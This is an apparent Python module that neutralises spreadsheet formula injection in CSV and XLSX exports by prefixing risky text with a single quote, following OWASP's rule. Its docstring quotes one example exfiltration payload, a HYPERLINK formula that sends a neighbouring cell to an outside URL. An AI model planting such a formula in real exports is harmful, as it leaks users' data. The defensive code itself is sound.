"""The one rule for the cells of every table scenehub hands out as a spreadsheet file (pure).

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and skips a leading tab or carriage return before looking), so a firm's capability titled
``=HYPERLINK("http://…?d="&A2,"click me")`` would become a live link that sends the next
cell away. OWASP's CSV-injection rule: prefix such text with a single quote, which the
spreadsheet shows and never runs. Only text is neutralised; a number written as a number
(``-1``, ``Decimal("-1.50")``) stays a number. The CSV and XLSX downloads
(``web/downloads.py``) and a firm's data archive (``governance/export.py``) use it.
"""

from __future__ import annotations

import math
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

Cell = str | int | float | Decimal


def formula_safe(text: str) -> str:
    """``text``, with a leading single quote when a spreadsheet would run it as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


# Places a float keeps in a download: sums of money in ten-thousands of yuan and coordinates
# need no more, and fewer would hide real differences.
FLOAT_PLACES = 6


def _tidy(value: float) -> Cell:
    """A float as people read it: 725.0 is 725, 51854.200000000004 is 51854.2; not a
    number, or infinite, is an empty cell."""
    if not math.isfinite(value):
        return ""
    rounded = round(value, FLOAT_PLACES)
    return int(rounded) if rounded.is_integer() else rounded


def cell_value(value: Any) -> Cell:
    """One cell of a table: integers, decimals and booleans as they are, floats tidied
    (:func:`_tidy`), None empty, anything else as its text, neutralised by
    :func:`formula_safe`."""
    if value is None:
        return ""
    if isinstance(value, float):
        return _tidy(value)
    if isinstance(value, int | Decimal):
        return value
    return formula_safe(value if isinstance(value, str) else str(value))
